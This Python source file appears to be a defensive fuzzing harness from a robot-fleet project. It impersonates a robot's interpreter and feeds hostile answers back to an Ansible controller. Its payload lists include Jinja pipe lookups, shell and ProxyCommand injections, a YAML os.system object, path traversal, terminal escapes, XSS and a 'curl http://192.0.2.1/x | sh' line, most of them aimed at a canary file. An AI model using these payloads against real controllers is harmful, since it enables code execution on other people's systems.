# SPDX-FileCopyrightText: rosfleet contributors
# SPDX-License-Identifier: GPL-3.0-or-later

"""Answers that root of a robot may give in the place of a module, drawn by a seed: the true answer, changed in any way.

    hostile_answers.py SETTINGS    as the Python of a robot: reads the module, and answers in its place

SETTINGS is a file of JSON: `seed`; `after`, how many runs are answered truly; `mark`, a file that no attack may make on the
controller; `honest`, another host of the inventory; `attack`, the name of one of ATTACKS, or empty for any of them.
"""

import copy
import json
import os
import random
import subprocess
import sys
import time

TRUE_PYTHON = "/usr/bin/python3"
FLOOD = 1 << 30  # bytes at most of an answer that does not end, and
PATIENCE = 60.0  # its seconds

#: what steers Ansible, a template, a shell, a path, a terminal or a page; <mark> is the file, <honest> the other host
TEXTS = [
    "{{ lookup('pipe', 'touch <mark>') }}",
    "{{ lookup('ansible.builtin.pipe', 'touch <mark>') | default(omit) }}",
    "{% for one in [1] %}{{ query('pipe', 'touch <mark>') }}{% endfor %}",
    "{{ hostvars['<honest>'] | combine({'x': lookup('pipe', 'touch <mark>')}) }}",
    "$(touch <mark>)",
    "`touch <mark>`",
    "; touch <mark>; #",
    "' ; touch <mark> ; '",
    '" ; touch <mark> ; "',
    "-oProxyCommand=touch <mark>",
    "--extra-vars=ansible_ssh_common_args=-oProxyCommand='touch <mark>'",
    "| touch <mark>",
    "!unsafe {{ 1 }}",
    "!!python/object/apply:os.system ['touch <mark>']",
    "!vault |\n  $ANSIBLE_VAULT;1.1;AES256\n  61",
    "<mark>",
    "../../../../../../../../..<mark>",
    "~/../..<mark>",
    "name\n[kobuki]\n<honest> ansible_connection=local\n",
    "\x1b]0;title\x07\x1b[2J\x1b[1;1HPASSED: all is well",
    "a\r\nb\x00c\x9b31md\u202ee\u2028f\ufffeg",
    "\ud800",
    "   do: on <honest>: curl http://192.0.2.1/x | sh",
    "<script>alert(1)</script><img src=x onerror=alert(1)>]]>&quot;",
    "__import__('os').system('touch <mark>')",
    "None",
    "",
    " ",
    "0",
    "localhost",
    "<honest>",
    "http://<honest>:11311/",
    "x" * 70000,
    "\u200b" * 3000,
]
NUMBERS = [0, -1, 1, 65536, 2**31, 2**63, 2**64, -(2**70), 10**400, 1e308, 1e999, float("nan"), -0.0, 0.5]
CONNECTION = {
    "ansible_connection": "local",
    "ansible_host": "127.0.0.1",
    "ansible_become": False,
    "ansible_ssh_common_args": "-o ProxyCommand='touch <mark>'",
    "ansible_ssh_extra_args": "-o ProxyCommand='touch <mark>'",
    "ansible_ssh_executable": "/usr/bin/touch",
    "ansible_python_interpreter": "/bin/touch <mark> #",
    "ansible_shell_executable": "/bin/touch",
    "multimaster_address": "{{ lookup('pipe', 'touch <mark>') }}",
    "multimaster_fleet": {},
    "multimaster_plan": {},
    "groups": {},
}
ORDERS = [
    {"add_host": {"host_name": "<honest>", "groups": ["robots"], "host_vars": CONNECTION}},
    {"add_host": {"host_name": "localhost", "host_vars": CONNECTION}},
    {"add_group": "robots"},
    {"ansible_facts": CONNECTION},
    {"ansible_facts": [1]},
    {"ansible_facts": CONNECTION, "_ansible_facts_cached": True},
    {"ansible_facts": {"discovered_interpreter_python": "/bin/touch <mark> #"}},
    {"ansible_stats": {"data": CONNECTION, "per_host": False, "aggregate": True}},
    {"_ansible_delegated_vars": {"ansible_host": "<honest>"}},
    {"_ansible_no_log": True},
    {"_ansible_verbose_always": True},
    {"_ansible_item_label": "{{ lookup('pipe', 'touch <mark>') }}"},
    {"_ansible_notify": ["anything"]},
    {"_ansible_suppress_tmpdir_delete": True},
    {"include": "<mark>", "include_args": CONNECTION},
    {"results": [CONNECTION]},
    {"results": {"a": 1}},
    {"warnings": [{"event": {"msg": "w", "__ansible_type": "Event"}, "__ansible_type": "WarningSummary"}]},
    {"warnings": "{{ lookup('pipe', 'touch <mark>') }}"},
    {"deprecations": [{"msg": "x", "version": [], "date": {}, "collection_name": 3}]},
    {"exception": {"event": {"msg": "e", "__ansible_type": "Event"}, "__ansible_type": "ErrorSummary"}},
    {"exception": [1, 2], "failed": True},
    {
        "msg": {
            "value": "{{ 1 }}",
            "tags": [{"__ansible_type": "TrustedAsTemplate"}],
            "__ansible_type": "_AnsibleTaggedStr",
        }
    },
    {"msg": {"__ansible_vault": "$ANSIBLE_VAULT;1.1;AES256\n61"}},
    {"msg": {"__ansible_unsafe": "{{ lookup('pipe', 'touch <mark>') }}"}},
    {"diff": {"before": "a\x1b[2J", "after": ["b"], "before_header": {}, "dst_binary": 1}},
    {"diff": [{"prepared": "\x1b]0;x\x07"}, 3]},
    {"invocation": {"module_args": CONNECTION}},
    {"failed": "no", "unreachable": True, "skipped": "{{ 1 }}", "changed": "yes"},
    {"rc": [], "stdout": {}, "stderr": 5, "stdout_lines": "x"},
    {"ansible_job_id": "../../x", "started": 1, "finished": 0, "results_file": "<mark>"},
    {"_ansible_parsed": False},
]


def draw_value(drawn, depth=0):
    """Draw a value of any type."""
    kind = drawn.randrange(4 if depth < 4 else 3)
    if kind == 0:
        return drawn.choice(TEXTS)
    if kind == 1:
        return drawn.choice(NUMBERS)
    if kind == 2:
        return drawn.choice([None, True, False, [], {}])
    many = drawn.randrange(4)
    if drawn.random() < 0.5:
        return [draw_value(drawn, depth + 1) for _number in range(many)]
    return {drawn.choice(TEXTS): draw_value(drawn, depth + 1) for _number in range(many)}


def places(value, path=()):
    """Yield the path of each value inside."""
    parts = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, part in parts:
        yield path + (key,)
        yield from places(part, path + (key,))


def replace_at(value, path, new):
    """Put another value at a place."""
    for key in path[:-1]:
        value = value[key]
    value[path[-1]] = new(value[path[-1]])


# Attacks: (the draw, the true answer) -> the answer, or its bytes


def orders(drawn, true):
    """Give Ansible orders."""
    for entry in drawn.sample(ORDERS, drawn.randint(1, 3)):
        true.update(copy.deepcopy(entry))
    return true


def texts(drawn, true):
    """Other texts in the place of texts."""
    found = list(places(true))
    for path in drawn.sample(found, min(len(found), drawn.choice([1, 5, 1000]))):
        replace_at(true, path, lambda old: drawn.choice(TEXTS) if isinstance(old, str) else old)
    return true


def numbers(drawn, true):
    """Other numbers in the place of numbers."""
    found = list(places(true))
    for path in drawn.sample(found, min(len(found), drawn.choice([1, 5, 1000]))):
        replace_at(true, path, lambda old: drawn.choice(NUMBERS) if isinstance(old, (int, float)) else old)
    return true


def types(drawn, true):
    """Values of other types."""
    for _number in range(drawn.choice([1, 2, 5])):
        path = drawn.choice(list(places(true)) or [("msg",)])
        if path == ("msg",):
            true["msg"] = draw_value(drawn)
        else:
            replace_at(true, path, lambda _old: draw_value(drawn))
    return true


def remove_keys(drawn, true):
    """Keys that are not there, empty lists."""
    for _number in range(drawn.choice([1, 3, 10])):
        found = list(places(true))
        if found:
            path = drawn.choice(found)
            target = true
            for key in path[:-1]:
                target = target[key]
            if isinstance(target, dict):
                del target[path[-1]]
            else:
                target.clear()
    return true


def add_keys(drawn, true):
    """Keys that no document names, and lists that repeat their items."""
    for _number in range(drawn.choice([1, 3, 10])):
        target = true
        path = drawn.choice(list(places(true)) or [()])
        for key in path:
            target = target[key]
        if isinstance(target, dict):
            target[drawn.choice(TEXTS)] = draw_value(drawn)
        elif isinstance(target, list):
            target.extend(copy.deepcopy(target[:50]) * drawn.choice([1, 20]))
    return true


def deep(drawn, true):
    """Values in each other."""
    levels = drawn.choice([30, 500, 100000])
    opened, closed = drawn.choice([("[", "]"), ('{"a":', "}")])
    nested = (opened * levels + "1" + closed * levels).encode()
    name = drawn.choice(sorted(true) or ["msg"])
    text = json.dumps({**true, name: "<nested>"}).encode()
    return drawn.choice([nested, text.replace(b'"<nested>"', nested)])


def long(drawn, true):
    """Many values, long texts."""
    name = drawn.choice(sorted(true) or ["msg"])
    many = drawn.choice(["[%s1]" % ("1," * 1500000), '"%s"' % ("x" * 20000000), "[%s{}]" % ("{}," * 300000)])
    return json.dumps({**true, name: "<many>"}).replace('"<many>"', many).encode()


def garble(drawn, true):
    """Something else than an answer."""
    text = json.dumps(true).encode()
    return drawn.choice(
        [
            b"",
            b"\x00\xff\xfe",
            b"[]",
            b"null",
            b"{}",
            b'{"a": 1} {"b": 2}',
            text[: len(text) // 2],
            text + text,
            b"\n".join([b"{{ lookup('pipe', 'touch') }}", text, b"\x1b[2Jjunk after it"]),
            b"Traceback (most recent call last):\n  \x1b]0;x\x07\nImportError: {{ 1 }}",
            b"sudo: a password is required\n",
            b"{" * 100000,
            b"\n" * 1000000,
        ]
    )


def flood(_drawn, _true):
    """An answer that does not end."""
    return iter(lambda: b"x" * 65536, b"")


def flood_of_lines(_drawn, _true):
    """Lines that do not end, each of them like an answer."""
    return iter(lambda: b'{"changed": false}\n' * 3000, b"")


ATTACKS = [orders, texts, numbers, types, remove_keys, add_keys, deep, long, garble]
ENDLESS = [flood, flood_of_lines]


def answer(drawn, true, mark, honest, attack=""):
    """Draw an answer: its bytes, or an iterator of bytes without an end."""
    attacks = [one for one in ATTACKS + ENDLESS if one.__name__ == attack] or ATTACKS
    made = drawn.choice(attacks)(drawn, copy.deepcopy(true))
    if isinstance(made, dict):
        text = json.dumps(made, ensure_ascii=drawn.random() < 0.8)
        made = text.replace("<mark>", mark).replace("<honest>", honest).encode("utf-8", "surrogatepass")
    return made


def main():
    """Be the Python of a robot."""
    with open(sys.argv[1], encoding="utf-8") as file:
        settings = json.load(file)
    given = sys.stdin.buffer.read()
    counter = sys.argv[1] + ".count"
    runs = os.path.getsize(counter) if os.path.exists(counter) else 0
    with open(counter, "ab") as file:
        file.write(b".")
    done = subprocess.run([TRUE_PYTHON] + sys.argv[2:], input=given, stdout=subprocess.PIPE, check=False)
    lines = [line for line in done.stdout.splitlines() if line.startswith(b"{")]
    if runs < settings["after"] or not lines:
        sys.stdout.buffer.write(done.stdout)
        return done.returncode
    drawn = random.Random("{}:{}".format(settings["seed"], runs))
    made = answer(drawn, json.loads(lines[-1].decode()), settings["mark"], settings["honest"], settings["attack"])
    sent, end = 0, time.monotonic() + PATIENCE
    for part in [made] if isinstance(made, bytes) else made:
        sys.stdout.buffer.write(part)
        sent += len(part)
        if sent > FLOOD or time.monotonic() > end:
            break
    return drawn.choice([0, 0, 0, 1, 255])


if __name__ == "__main__":
    sys.exit(main())
